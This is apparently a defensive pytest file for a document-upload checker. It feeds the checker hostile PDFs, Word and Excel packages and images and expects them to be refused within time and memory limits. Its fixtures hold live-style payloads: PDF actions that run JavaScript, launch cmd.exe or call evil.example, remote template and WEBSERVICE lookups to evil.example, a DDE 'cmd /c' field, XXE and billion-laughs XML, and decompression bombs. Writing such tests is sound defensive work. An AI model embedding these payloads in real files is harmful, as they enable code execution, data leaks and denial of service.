"""Files made to do harm: each is refused within a second and without its memory, or is harmless to keep.

What was found once and mended is named after what it did; what may look like it and is not stays accepted.
"""

import random
import time
import zlib

import pytest

from mashang.documents import contents
from mashang.documents.operations import storing
from mashang.documents.tests import bytes_of
from mashang.documents.tests import hostile_bytes as hostile
from mashang.documents.tests.test_check import _memory, refused
from mashang.kernel.errors import Refusal

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
CALL = b"<</S/URI/URI(http://evil.example/seen)>>"
VAST = 600 << 20
HUNDRED = 100 << 20


# what it is: (bytes, code)
PDFS = {
    "a script among packed objects": lambda: (
        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: SCRIPT}),
        "file.active",
    ),
    "a program to launch among packed objects": lambda: (
        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: b"<</S/Launch/F(cmd.exe)>>"}),
        "file.active",
    ),
    "an address that opening it calls": lambda: (hostile.pdf(catalogue=b"/OpenAction" + CALL), "file.active"),
    "the same elsewhere in the file": lambda: (hostile.pdf({4: CALL}, catalogue=b"/OpenAction 4 0 R"), "file.active"),
    "the same among packed objects": lambda: (hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: CALL}), "file.active"),
    "the same on a page": lambda: (
        hostile.pdf({4: CALL}, page=hostile.PAGE[:-2] + b"/AA<</O 4 0 R>>>>"),
        "file.active",
    ),
    "a thousand such things": lambda: (
        hostile.pdf(catalogue=b"".join(b"/OpenAction %d 0 R" % number for number in range(5, 1005))),
        "file.active",
    ),
    "a form that is sent elsewhere": lambda: (
        hostile.pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
        "file.active",
    ),
    "a file of another machine that opening it opens": lambda: (
        hostile.pdf(catalogue=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x)/D[0/Fit]>>"),
        "file.active",
    ),
    "an address behind a remark": lambda: (
        hostile.pdf(catalogue=b"/OpenAction%remark\n<</S%remark\n/URI/URI(http://evil.example/)>>"),
        "file.active",
    ),
    "an address behind many words": lambda: (
        hostile.pdf(catalogue=b"/OpenAction<</Title(" + b"x" * 3_000 + b")/S/URI/URI(http://evil.example/)>>"),
        "file.active",
    ),
    "an address behind another dictionary": lambda: (
        hostile.pdf(catalogue=b"/OpenAction<</More<</A 1>>/S/#55RI/URI(http://evil.example/)>>"),
        "file.active",
    ),
    "an address after a page to go to": lambda: (
        hostile.pdf({4: CALL, 5: b"<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R]>>"}, catalogue=b"/OpenAction 5 0 R"),
        "file.active",
    ),
    "an address in an object whose number has zeros": lambda: (
        hostile.pdf({4: CALL}, catalogue=b"/OpenAction 4 0 R").replace(b"\n4 0 obj", b"\n0004 0 obj"),
        "file.active",
    ),
    "a film whose player runs a script": lambda: (
        hostile.pdf(catalogue=b"/OpenAction<</S/Rendition/OP 1/JS(app.alert(1))>>"),
        "file.active",
    ),
    "a model that runs a script": lambda: (
        hostile.pdf({4: b"<</Type/3D/Subtype/U3D/OnInstantiate 5 0 R>>"}),
        "file.active",
    ),
    "a stream that lies on another machine": lambda: (
        hostile.pdf({4: b"<</Length 0/F(//evil/x)/FFilter/FlateDecode>>stream\n\nendstream"}),
        "file.active",
    ),
    "a web page in its first lines": lambda: (
        hostile.pdf().replace(b"\n", b"\n%<HTML><script>alert(1)</script>\n", 1),
        "file.mixed",
    ),
    "a picture with a script behind its end": lambda: (hostile.pdf() + b"\n<svg onload=alert(1)>", "file.mixed"),
    "300,000 streams of packed objects": lambda: (
        hostile.pdf({4: b"<</Type/XRef>>stream\nx\nendstream 1 0 obj" * 300_000}),
        "file.bomb",
    ),
    "18 things to do in 18 MB of numbers": lambda: (
        hostile.pdf(
            {5: (b"1 0 obj" + b" " * 95) * 180_000},
            catalogue=b"/OpenAction<</S/GoTo/Next[%s]>>" % b"".join(b"%d 0 R " % n for n in range(30, 48)),
        ),
        "file.active",
    ),
    "a form in the form language": lambda: (hostile.pdf(catalogue=b"/AcroForm<</XFA 4 0 R/Fields[]>>"), "file.active"),
    "a film with a player": lambda: (
        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/RichMedia/Rect[0 0 5 5]>>]>>"),
        "file.active",
    ),
    "a program attached": lambda: (hostile.pdf_with_a_program(), "file.mixed"),
    "a file pinned to a page": lambda: (
        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/FileAttachment/Rect[0 0 5 5]>>]>>"),
        "file.mixed",
    ),
    "100 MB of packed objects": lambda: (hostile.packed_pdf(ballast=HUNDRED), "file.bomb"),
    "600 MB packed twice": lambda: (hostile.packed_pdf(ballast=VAST, how="twice"), "file.bomb"),
    "600 MB far from their name": lambda: (hostile.packed_pdf(ballast=VAST, how="far"), "file.bomb"),
    "a script behind encryption": lambda: (
        hostile.locked_pdf(zlib.compress(b"6 0 " + SCRIPT), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
        "STORED",
    ),  # nothing leads to it
    "pages in a circle": lambda: (hostile.pdf({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}), "file.broken"),
    "20,000 pages one inside the other": lambda: (
        hostile.pdf(
            {
                2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
                **{n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(4, 20_000)},
                20_000: hostile.PAGE,
            }
        ),
        "file.broken",
    ),
    "a page tree that doubles forty times": lambda: (
        hostile.pdf(
            {
                2: b"<</Type/Pages/Kids[4 0 R]/Count %d>>" % 2**40,
                **{
                    n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 2 ** (44 - n))
                    for n in range(4, 44)
                },
                44: hostile.PAGE,
            }
        ),
        "file.broken",
    ),
}


def outcome(content: bytes, name: str) -> str:
    """The code of the refusal, or STORED."""
    try:
        storing.check(content, name)
    except Refusal as refusal:
        return refusal.reasons[0].code
    return "STORED"


@pytest.mark.parametrize("made", PDFS.values(), ids=PDFS)
def test_a_cunning_pdf(made):
    content, code = made()
    before, began = _memory(), time.process_time()
    assert outcome(content, "证明.pdf") == code
    assert time.process_time() - began < 1
    assert _memory() - before < 30


def test_a_pdf_of_a_million_packed_objects_held_the_process_for_ever():
    content, began = hostile.pdf_of_a_million_objects(), time.process_time()
    assert outcome(content, "证明.pdf") == "STORED"  # nothing leads to them: nobody reads them
    assert time.process_time() - began < 2


def test_an_encrypted_pdf_hid_its_objects_from_the_scan():
    """Opened without a password, it is looked at behind its encryption; what bursts there ends alone."""
    script = hostile.locked_pdf(zlib.compress(SCRIPT), b"/Filter/FlateDecode", catalogue=b"/OpenAction" + SCRIPT)
    assert outcome(script, "流水.pdf") == "file.active"
    quiet = hostile.locked_pdf(b"q Q", b"")
    assert contents.opened(storing.check(quiet, "流水.pdf").sha256).read() == quiet  # kept as it was given


def test_a_voucher_for_the_books_may_carry_its_entries():
    assert outcome(hostile.voucher(), "电子凭证.pdf") == "STORED"


def test_a_link_that_is_clicked_on_and_a_page_to_begin_at_are_accepted():
    links = b"/Annots[<</Subtype/Link/Rect[0 0 5 5]/A" + CALL + b">>]>>"
    for begun in (
        b"<</S/GoTo/D[3 0 R/Fit]>>",
        b"[3 0 R/XYZ null null 0]",
        b"<</S/Named/N/Print>>",
        b" 4 0 R",
        b" null",
    ):
        paper = hostile.pdf(
            {4: b"<</S/GoTo/D(a\\)b)>>"}, page=hostile.PAGE[:-2] + links, catalogue=b"/OpenAction" + begun
        )
        assert outcome(paper, "办事指南.pdf") == "STORED", begun
    fonts = hostile.pdf({4: b"<</Type/Font/Subtype/Type3/W 9 0 R>>"}, page=hostile.PAGE[:-2] + b"/Font<</AA 4 0 R>>>>")
    assert outcome(fonts, "办事指南.pdf") == "STORED"  # a font that is called AA
    assert outcome(hostile.packed_pdf(b"/OpenAction[3 0 R/Fit]"), "办事指南.pdf") == "STORED"


def test_a_plain_packed_pdf_of_a_newer_printer_is_accepted():
    assert storing.check(hostile.packed_pdf(), "证明.pdf").pages == 1


REL = "word/_rels/settings.xml.rels"
PACKAGES = {
    "a link out of the folder": (hostile.word("word/link", b"/etc/passwd", link=True), "file.mixed"),
    "a name on a drive": (hostile.word("C:evil.xml"), "file.mixed"),
    "a name of 6,000 signs": (hostile.word("word/" + "d/" * 3_000 + "x.xml"), "file.mixed"),
    "the same name twice": (hostile.word("word/Document.xml"), "file.mixed"),
    "a package that says it is a picture": (hostile.word("word/media/1.png", bytes_of.package("a")), "file.mixed"),
    "a program that says it is a picture": (hostile.word("word/media/1.png", b"MZ\x90\0" + bytes(90)), "file.mixed"),
    "a billion laughs": (hostile.word("word/a.xml", hostile.LAUGHS), "file.active"),
    "an entity from outside": (hostile.word("word/a.xml", hostile.OUTSIDE.encode()), "file.active"),
    "the same in two bytes a sign": (hostile.word("word/a.xml", hostile.OUTSIDE.encode("utf-16")), "file.active"),
    "a template from elsewhere": (
        hostile.word(REL, hostile.TEMPLATE % (b"http://evil.example/x.dotm", b"attachedTemplate")),
        "file.active",
    ),
    "an object from elsewhere": (
        hostile.word(REL, hostile.TEMPLATE % (b"mhtml:http://evil.example/x!y", b"oleObject")),
        "file.active",
    ),
    "an old macro sheet": (hostile.word("xl/macrosheets/sheet1.xml"), "file.active"),
    "a template, each word of it in numbers": (
        hostile.word(REL, hostile.TEMPLATE % (b"&#104;ttp://evil.example/x", b"attached&#x54;emplate")),
        "file.active",
    ),
    "a template under another prefix": (
        hostile.word(
            REL,
            (hostile.TEMPLATE % (b"http://evil.example/x", b"attachedTemplate")).replace(
                b"<Relationship ", b"<p:Relationship "
            ),
        ),
        "file.active",
    ),
    "a template on another machine": (
        hostile.word(REL, hostile.TEMPLATE % (b"file://evil/x.dotm", b"attachedTemplate")),
        "file.active",
    ),
    "a picture that tells who looks": (
        hostile.word(REL, hostile.TEMPLATE % (b"https://evil.example/1.png", b"image")),
        "file.active",
    ),
    "a field that fetches a text": (
        hostile.word("word/a.xml", b'<w:instrText> INCLUDETEXT "http://evil.example/" </w:instrText>'),
        "file.active",
    ),
    "a table that asks an address": (
        hostile.word("xl/worksheets/s.xml", b'<f>_xlfn.WEBSERVICE("http://evil.example/")</f>'),
        "file.active",
    ),
    "a program in an old object": (
        hostile.word(
            "word/embeddings/oleObject1.bin",
            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(300_000) + "\x01Ole10Native".encode("utf-16-le"),
        ),
        "file.mixed",
    ),
    "an equation of an old program": (
        hostile.word(
            "word/embeddings/oleObject1.bin",
            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(900) + "Equation Native".encode("utf-16-le"),
        ),
        "STORED",
    ),
    "a paper of another kind, for other readers": (hostile.word("word/chunk.rtf", b"{\\rtf1 \\object}"), "file.mixed"),
    "an encoding in which nothing looks like itself": (
        hostile.word("word/a.xml", b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
        "file.broken",
    ),
    "a field that starts a program": (hostile.word("word/a.xml", hostile.ORDER), "file.active"),
    "the same in a header": (hostile.word("word/header1.xml", b'<w:fldSimple w:instr=" DDE cmd /c"/>'), "file.active"),
    "a table that asks another program": (hostile.word("xl/externalLinks/1.xml", b"<ddeLink/>"), "file.active"),
    "a text about such fields": (hostile.word("word/a.xml", b"<w:t>DDEAUTO</w:t>"), "STORED"),
    "a control": (hostile.word("word/activeX/activeX1.bin"), "file.active"),
    "4 GB of memory for 300 bytes": (hostile.vast_dictionary(), "file.broken"),
    "a link to a page": (hostile.word(REL, hostile.TEMPLATE % (b"http://www.gov.cn/", b"hyperlink")), "STORED"),
    "a template on the author's disk": (
        hostile.word(REL, hostile.TEMPLATE % (b"file:///C:/Users/li/Normal.dotm", b"attachedTemplate")),
        "STORED",
    ),
    "the table behind a chart": (hostile.word("word/embeddings/t.xlsx", bytes_of.package("xl/workbook.xml")), "STORED"),
}


@pytest.mark.parametrize(("content", "code"), PACKAGES.values(), ids=PACKAGES)
def test_a_cunning_package(content, code):
    before, began = _memory(), time.process_time()
    assert outcome(content, "章程.docx") == code
    assert time.process_time() - began < 1
    assert _memory() - before < 30


def test_a_hundred_megabytes_of_a_large_table_kept_the_processor_for_seconds():
    chance = random.Random(1)
    cells = b"".join(chance.randbytes(500) + b"0" * 20_000 for _row in range(5_000))
    content = hostile.word("xl/worksheets/s.xml", b"<x>" + cells)
    began = time.process_time()
    assert outcome(content, "统计.xlsx") == "STORED"
    assert time.process_time() - began < 2


PICTURES = {
    "a million small chunks": lambda: hostile.png_with(hostile.chunk(b"tEXt", b"a\0b") * 1_000_000),
    "100,000 frames": lambda: hostile.png_with(hostile.chunk(b"fcTL", bytes(26)) * 100_000),
    "half a gigabyte of colour profile": lambda: hostile.png_with(
        hostile.chunk(b"iCCP", b"x\0\0" + hostile.packed_zeros(512 << 20))
    ),
    "half a gigabyte of words": lambda: hostile.png_with(
        hostile.chunk(b"zTXt", b"x\0\0" + hostile.packed_zeros(512 << 20))
    ),
    "5,000 scans": lambda: hostile.jpeg_of_many_scans(5_000),
    "500,000 segments": lambda: hostile.jpeg_of_many_segments(500_000),
}


@pytest.mark.parametrize("made", PICTURES.values(), ids=PICTURES)
def test_a_cunning_picture_kept_the_processor_for_seconds_or_for_ever(made):
    content = made()
    before, began = _memory(), time.process_time()
    assert refused(content, "照片.jpg")[0] == "file.broken"
    assert time.process_time() - began < 1
    assert _memory() - before < 60


@pytest.mark.parametrize("scans", [0, 8])
def test_a_progressive_photograph_of_a_telephone_is_accepted(scans):
    assert outcome(hostile.jpeg_of_many_scans(scans), "照片.jpg") == "STORED"
